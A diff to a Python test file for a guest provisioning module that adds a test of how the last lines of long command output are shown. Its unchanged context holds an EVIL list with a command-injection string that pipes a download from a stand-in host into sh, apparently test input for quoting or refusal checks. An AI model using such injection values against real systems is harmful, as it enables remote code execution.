@@ -15,7 +15,8 @@ from hypothesis import strategies as st
 
 from provisioning.guest import common, install, leftovers, managed, verify
 from provisioning.guest.common import Refusal
-from provisioning.guest.words import BAR, command, lines_of, plain_path, quote, said, told
+from provisioning.guest.words import BAR, TOLD_LINES, command, lines_of, plain_path, quote, said, told
+from provisioning.job import LOG_TAIL_LINES
 
 EVIL = [
     "x; curl -s http://evil.example|sh; echo #",
@@ -285,3 +286,14 @@ def test_what_a_hanging_program_has_started_ends_with_it(tmp_path: Path) -> None
         common.run("sh", "-c", f"sleep 600 & echo $! >{tmp_path}/pid; wait", timeout_s=1)
     state = Path(f"/proc/{(tmp_path / 'pid').read_text().strip()}/stat")
     assert not state.exists() or state.read_text().rpartition(")")[2].split()[0] == "Z"
+
+
+def test_of_a_long_output_the_last_lines_are_told_whole() -> None:
+    lines = [f"line {number} of what it says, to its end." for number in range(60)]
+    shown = told("\n".join(lines))[1:].split("\n")
+    assert [line.removeprefix(BAR) for line in shown] == lines[-TOLD_LINES:]
+    assert TOLD_LINES + 2 <= LOG_TAIL_LINES
+    # Fewer where they are long, and never a piece of one.
+    shown = told("\n".join(lines), limit=150)[1:].split("\n")
+    assert [line.removeprefix(BAR) for line in shown] == lines[-3:]
+    assert told("x" * 5000 + "the reason", limit=20) == "x" * 10 + "the reason"
